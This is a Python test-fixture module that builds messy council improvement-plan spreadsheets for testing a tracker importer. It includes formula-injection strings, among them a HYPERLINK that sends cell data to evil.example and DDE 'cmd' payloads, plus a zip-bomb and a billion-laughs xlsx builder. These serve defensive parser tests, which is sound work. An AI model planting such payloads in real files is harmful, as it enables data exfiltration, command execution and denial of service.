"""Messy tracker fixtures, built in code (openpyxl for xlsx; plain bytes for csv and bad files).

Every trait can be switched on alone or combined: title rows, blank spacers, merged or sparse
recommendation cells, fill-only RAG (rgb, indexed, theme+tint), conditional-format RAG, a legend
footer and a legend sheet, one sheet per review period, bad rows, formula-looking text.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from dataclasses import dataclass, field, replace

import openpyxl
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Color, PatternFill

HEADERS = {
    "plain": [
        "Rec No.",
        "Ofsted Recommendation",
        "Action ID",
        "Action required",
        "Lead Officer",
        "Timescale",
        "RAG Status",
        "Progress update",
        "Measure of success",
    ],
    "synonyms": [
        "NOS",
        "Area for improvement",
        "Action No.",
        "What?",
        "Who?",
        "By when?",
        "BRAG",
        "Commentary",
        "How will it be measured?",
    ],
    # "Ref" holding 1.1, 1.2: the action's ID, not the recommendation's
    "ref_as_id": [
        "Rec",
        "Recommendation",
        "Ref",
        "Actions",
        "Responsible officer",
        "Deadline",
        "Current Status",
        "Comments",
        "Outcome",
    ],
}

# (rec ref, rec text, action id, action, lead, timescale, status letter, progress, measure)
ROWS = [
    (
        "1",
        "Improve the quality of assessments",
        "1.1",
        "Audit 20 assessments each month",
        "Head of Service CP",
        "31/03/2018",
        "G",
        "Audits in place since January",
        "90% of audits good or better",
    ),
    (
        "1",
        "Improve the quality of assessments",
        "1.2",
        "Train social workers in analysis",
        "Principal Social Worker",
        "June 2018",
        "A",
        "Two of four sessions delivered",
        "All staff trained",
    ),
    (
        "1",
        "Improve the quality of assessments",
        "1.3",
        "Revise the assessment template",
        "Head of Service CP",
        "Q1 2018/19",
        "B",
        "New template live",
        "Template in use",
    ),
    (
        "2",
        "Strengthen management oversight of cases",
        "2.1",
        "Introduce monthly supervision audits",
        "Service Manager",
        "31st March 2018",
        "R",
        "Not started: recruitment delays",
        "Supervision every 4 weeks",
    ),
    (
        "2",
        "Strengthen management oversight of cases",
        "2.2",
        "Report caseloads to the board",
        "DCS",
        "Ongoing",
        "G",
        "Reported monthly",
        "Caseloads under 20",
    ),
    (
        "3",
        "Improve permanence planning for children in care",
        "3.1",
        "Track every child's plan at 4 months",
        "Head of Looked After Children",
        "Sept 2018",
        "A",
        "Tracker built",
        "Plans by second review",
    ),
]
STATUS_FILLS = {
    "rgb": {
        "B": Color(rgb="FF0070C0"),
        "G": Color(rgb="FF00B050"),
        "A": Color(rgb="FFFFC000"),
        "R": Color(rgb="FFFF0000"),
    },
    # openpyxl's default palette: 12 blue, 11 bright green, 13 yellow, 10 red
    "indexed": {"B": Color(indexed=12), "G": Color(indexed=11), "A": Color(indexed=13), "R": Color(indexed=10)},
    # default Office theme: 4 accent1 blue, 6 accent3 green, 9 accent6 orange, 5 accent2 red
    "theme": {
        "B": Color(theme=4, tint=0.39997558519241921),
        "G": Color(theme=6, tint=-0.249977111117893),
        "A": Color(theme=9, tint=0.39997558519241921),
        "R": Color(theme=5),
    },
}
EXPECTED_STATUS = {"B": "complete", "G": "green", "A": "amber", "R": "red"}
FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    "-2+3",
]


@dataclass
class Traits:
    headers: str = "plain"
    title_rows: bool = False  # title, "Position as at ...", logo-ish blank rows above the header
    as_at: dt.date | None = dt.date(2018, 6, 30)  # written in the title when title_rows
    start_col: int = 1  # 1 = column A; 3 = table starts in column C
    blank_spacers: bool = False  # a blank row after each recommendation
    merged_recs: bool = False  # rec ref and text merged down each recommendation's actions
    sparse_recs: bool = False  # rec ref and text only on each recommendation's first row
    rec_header_rows: bool = False  # rec ref/text on a row of its own above its actions
    fill_only: str | None = None  # "rgb", "indexed" or "theme": statuses as fills, no text
    conditional_rag: bool = False  # status column empty, coloured by a conditional-format rule
    legend_footer: bool = False  # "Key" block under the table
    legend_sheet: bool = False  # a "RAG Key" sheet before the plan
    bad_rows: bool = False  # purple, N/A, 31/02/2017, duplicate action ID
    formula_text: bool = False  # progress cells holding formula-/HTML-looking text
    real_dates: bool = False  # timescales as real date cells
    drop_ids: bool = False  # no action ID column
    sheet: str = "Action plan"
    rows: list = field(default_factory=lambda: list(ROWS))


def _date_cell(text: str):
    for fmt in ("%d/%m/%Y",):
        try:
            return dt.datetime.strptime(text, fmt)
        except ValueError:
            pass
    return text


def write_table(ws, t: Traits) -> dict:
    """Write one tracker table on ws; returns facts the tests check (header row, data rows...)."""
    headers = list(HEADERS[t.headers])
    rows = [list(r) for r in t.rows]
    if t.drop_ids:
        headers.pop(2)
        rows = [r[:2] + r[3:] for r in rows]
    status_col = headers.index(next(h for h in headers if h in ("RAG Status", "BRAG", "Current Status")))
    progress_col = headers.index(next(h for h in headers if h in ("Progress update", "Commentary", "Comments")))
    due_col = headers.index(next(h for h in headers if h in ("Timescale", "By when?", "Deadline")))
    if t.bad_rows:
        bad = list(rows[0])
        rows.append(_with(bad, status_col, "purple", 3, "Bad row: purple status", "1"))
        rows.append(_with(list(rows[1]), status_col, "N/A", 3, "Bad row: N/A status", "1"))
        r = _with(list(rows[3]), status_col, "R", 3, "Bad row: impossible date", "2")
        r[due_col] = "31/02/2017"
        rows.append(r)
        if not t.drop_ids:
            dup = _with(list(rows[4]), status_col, "G", 3, "Bad row: duplicate ID", "2")
            dup[2] = rows[3][2]
            rows.append(dup)
        # keep recommendations together
        rows.sort(key=lambda r: r[0])
    if t.formula_text:
        for i, text in enumerate(FORMULA_TEXTS):
            rows[i % len(rows)][progress_col] = text
    c0 = t.start_col
    r = 1
    if t.title_rows:
        ws.cell(r, c0, "Anytown Council Children's Services Improvement Plan")
        r += 1
        if t.as_at:
            ws.cell(r, c0, f"Position as at {t.as_at.day} {t.as_at:%B %Y}")
        r += 3  # a blank row and room for a logo
    header_row = r
    for j, h in enumerate(headers):
        ws.cell(r, c0 + j, h)
    r += 1
    first_data = r
    data_rows: list[int] = []
    groups: list[tuple[int, int]] = []
    previous_rec = None
    for row in rows:
        rec = row[0]
        if rec != previous_rec:
            if previous_rec is not None and t.blank_spacers:
                r += 1
            if t.rec_header_rows:
                ws.cell(r, c0, rec)
                ws.cell(r, c0 + 1, row[1])
                r += 1
            groups.append((r, r))
        else:
            groups[-1] = (groups[-1][0], r)
        for j, value in enumerate(row):
            if j in (0, 1) and (t.rec_header_rows or ((t.sparse_recs or t.merged_recs) and rec == previous_rec)):
                continue
            if j == status_col and (t.fill_only or t.conditional_rag) and value in EXPECTED_STATUS:
                if t.fill_only:
                    ws.cell(r, c0 + j).fill = PatternFill("solid", fgColor=STATUS_FILLS[t.fill_only][value])
                continue
            if j == due_col and t.real_dates and isinstance(value, str):
                value = _date_cell(value)
            cell = ws.cell(r, c0 + j, value)
            if isinstance(value, str) and value[:1] in "=+-@":
                cell.data_type = "s"  # text, exactly as typed: never a live formula in the fixture
        data_rows.append(r)
        previous_rec = rec
        r += 1
    if t.merged_recs and not t.rec_header_rows:
        for top, bottom in groups:
            if bottom > top:
                ws.merge_cells(start_row=top, start_column=c0, end_row=bottom, end_column=c0)
                ws.merge_cells(start_row=top, start_column=c0 + 1, end_row=bottom, end_column=c0 + 1)
    if t.conditional_rag:
        col = openpyxl.utils.get_column_letter(c0 + status_col)
        ws.conditional_formatting.add(
            f"{col}{first_data}:{col}{r}",
            FormulaRule(
                formula=[
                    f'ISNUMBER(SEARCH("Not started",{openpyxl.utils.get_column_letter(c0 + progress_col)}{first_data}))'
                ],
                fill=PatternFill(bgColor="FFFF0000"),
            ),
        )
    if t.legend_footer:
        r += 2
        ws.cell(r, c0, "Key")
        for i, (letter, meaning) in enumerate(
            [("Blue", "Complete"), ("Green", "On track"), ("Amber", "At risk"), ("Red", "Off track")]
        ):
            ws.cell(r + 1 + i, c0, letter)
            ws.cell(r + 1 + i, c0 + 1, meaning)
    return {
        "header_row": header_row,
        "data_rows": data_rows,
        "rows": rows,
        "headers": headers,
        "status_col": status_col,
    }


def _with(row, status_col, status, action_col, text, rec):
    row = list(row)
    row[status_col] = status
    row[action_col] = text
    row[0] = rec
    return row


def build_xlsx(traits: Traits | None = None, **kw) -> bytes:
    t = replace(traits or Traits(), **kw)
    wb = openpyxl.Workbook()
    ws = wb.active
    if t.legend_sheet:
        ws.title = "RAG Key"
        ws["A1"], ws["B1"] = "Blue", "Complete"
        ws["A2"], ws["B2"] = "Red", "Off track"
        ws = wb.create_sheet(t.sheet)
    else:
        ws.title = t.sheet
    write_table(ws, t)
    return _save(wb)


def build_periods_xlsx(
    periods: list[tuple[str, dict[str, str]]], traits: Traits | None = None, legend_sheet=True
) -> bytes:
    """One sheet per review period, e.g. [("Q3 2016-17", {"1.1": "R"}), ...]: status overrides by action ID.
    Sheets are written out of date order on purpose."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    if legend_sheet:
        key = wb.create_sheet("Key")
        key["A1"], key["B1"] = "B", "Complete"
    for name, overrides in periods:
        rows = []
        for row in ROWS:
            row = list(row)
            if row[2] in overrides:
                row[6] = overrides[row[2]]
            rows.append(tuple(row))
        write_table(wb.create_sheet(name), replace(traits or Traits(), rows=rows, title_rows=False))
    return _save(wb)


def _save(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def build_csv(
    encoding: str = "utf-8",
    *,
    bom: bool = False,
    newlines_in_fields: bool = True,
    title_rows: bool = False,
    delimiter: str = ",",
) -> bytes:
    """A CSV export: quoted fields with commas and newlines, a £ and an en dash (cp1252 test)."""
    import csv

    buf = io.StringIO(newline="")
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    if title_rows:
        w.writerow(["Anytown improvement plan – position as at 30/06/2018"])
        w.writerow([])
    w.writerow(HEADERS["plain"])
    for i, row in enumerate(ROWS):
        row = list(row)
        if i == 0:
            row[3] = "Audit 20 assessments, each month, costing £200"
        if i == 1 and newlines_in_fields:
            row[7] = "Two of four sessions delivered.\nNext session: July – all teams"
        w.writerow(row)
    data = buf.getvalue().encode(encoding)
    return (b"\xef\xbb\xbf" + data) if bom else data


# ---------------------------------------------------------------------------
# Hostile and broken files
# ---------------------------------------------------------------------------


def zip_bomb(rows: int = 2_000, padding_mb: int = 100) -> bytes:
    """A valid-looking xlsx whose sheet XML expands hugely (same shape as the measured bomb)."""
    base = build_xlsx()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                row = b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>'
                body = b"".join(row % (i, i) for i in range(1, rows))
                data = data.replace(b"<sheetData>", b"<sheetData>" + body, 1) if b"<sheetData>" in data else data
                data += b" " * (padding_mb * 1024 * 1024)  # compresses ~1000:1
            dst.writestr(item, data)
    return out.getvalue()


def billion_laughs_xlsx() -> bytes:
    base = build_xlsx()
    lol = (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
        )
        + b"]>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
                data = lol + body.replace(b"Audit 20", b"&lol9; Audit 20", 1)
            dst.writestr(item, data)
    return out.getvalue()


def encrypted_xlsx() -> bytes:
    """What Excel writes for a password-protected .xlsx: an OLE/CFB container with an EncryptedPackage stream."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    directory = "EncryptedPackage".encode("utf-16-le") + b"\x00" * 30 + "EncryptionInfo".encode("utf-16-le")
    return header + directory + b"\x00" * 4096


def fake_ole_xls() -> bytes:
    """An OLE header and garbage: looks like .xls, is not one."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 20


def truncated_xlsx() -> bytes:
    data = build_xlsx()
    return data[: len(data) // 2]


def empty_workbook() -> bytes:
    wb = openpyxl.Workbook()
    return _save(wb)


def no_header_workbook() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Minutes of the improvement board"])
    ws.append(["Item", "Discussion", "Decision"])
    ws.append(["1", "Apologies", "Noted"])
    return _save(wb)


# ---------------------------------------------------------------------------
# Documents chosen by mistake
# ---------------------------------------------------------------------------


def pdf_document(text: str = "Improvement plan") -> bytes:
    """A small but complete PDF (one page of text), as a cabinet report would be."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def word_document(text: str = "Improvement plan") -> bytes:
    """A minimal .docx (the parts Word needs to open it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
            'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/></Types>',
        )
        zf.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        zf.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            f'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>',
        )
    return out.getvalue()
